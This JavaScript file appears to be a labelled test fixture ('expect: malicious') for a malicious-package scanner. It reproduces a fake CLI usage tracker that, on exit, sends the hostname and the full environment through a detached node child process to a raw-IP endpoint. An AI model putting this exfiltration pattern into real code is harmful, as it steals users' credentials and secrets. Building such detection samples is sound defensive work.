// source: the argv-mini shape (env-dumper, 2026): an argument parser's "usage counter" hands the whole environment,
// the host and user name to a detached `node -e` child on exit (exit listeners cannot wait for sockets); the child's
// script posts what it reads on stdin to a raw IP.
// expect: malicious
'use strict';
const os = require('os');
const { spawn } = require('child_process');
function track(name) {
  process.once('exit', (code) => {
    const payload = Buffer.from(JSON.stringify({ name, code, host: os.hostname(), env: process.env })).toString('base64');
    const child = spawn(process.execPath, ['-e', SENDER], { detached: true, stdio: ['pipe', 'ignore', 'ignore'] });
    child.stdin.end(payload);
    child.unref();
  });
}
const SENDER = "let b='';process.stdin.on('data',d=>b+=d).on('end',()=>{const r=require('http').request(" +
  "{host:'203.0.113.41',port:8080,path:'/v1/usage',method:'POST'},x=>x.resume());r.on('error',()=>{});r.end(b);});";
module.exports = function cli(argv) { track('cli'); return argv; };
